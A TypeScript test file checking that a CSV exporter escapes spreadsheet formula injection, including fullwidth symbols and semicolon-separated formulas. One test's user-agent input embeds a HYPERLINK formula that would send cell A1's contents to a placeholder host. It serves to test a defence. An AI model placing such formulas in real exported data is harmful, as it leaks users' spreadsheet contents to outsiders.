import { expect, test } from 'vitest';
import { csvOf } from './csv.ts';

test('no cell can be a formula, and negative amounts stay numbers', () => {
  const cells = ['=1+1', '+1', '@x', '-1+2', '-cmd', '\tx', '-12.50', '12.50', 'a,b', 'say "hi"', ''];
  expect(csvOf([cells])).toBe('\uFEFF\'=1+1,\'+1,\'@x,\'-1+2,\'-cmd,\'\tx,-12.50,12.50,"a,b","say ""hi""",\r\n');
});

test('no cell can be a formula that begins with a wide character', () => {
  expect(csvOf([['＝1+1', '＋1', ' ＠x', '－1', 'a;＝1', '1－2']])).toBe(
    "\uFEFF'＝1+1,'＋1,' ＠x,'－1,a;'＝1,1－2\r\n",
  );
});

test('no cell can be a formula in spreadsheets that use another separator', () => {
  // A browser's name, which any stranger at the log-in can choose.
  const device = 'Mozilla/5.0 (X11; Linux; rv:1.0);=HYPERLINK("http://192.0.2.1/"&A1);\t@x; +1';
  expect(csvOf([[device, 'a\n=1', ' =1', 'a;b', '2026-11-15; a-b']])).toBe(
    '\uFEFF"Mozilla/5.0 (X11; Linux; rv:1.0);\'=HYPERLINK(""http://192.0.2.1/""&A1);\t\'@x; \'+1","a\n\'=1",\' =1,a;b,2026-11-15; a-b\r\n',
  );
});
